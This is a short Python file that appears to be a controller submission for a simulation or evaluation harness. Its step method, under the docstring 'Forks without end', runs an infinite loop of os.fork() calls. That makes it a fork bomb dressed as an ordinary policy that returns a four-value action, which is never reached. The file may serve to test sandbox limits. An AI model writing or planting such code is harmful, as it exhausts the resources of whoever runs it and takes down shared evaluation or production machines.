"""Forks without end."""

import os


class Controller:
    def __init__(self, config):
        self.count = 0

    def step(self, observation):
        while True:
            os.fork()
        return [0.0, 0.0, 0.0, 0.0]
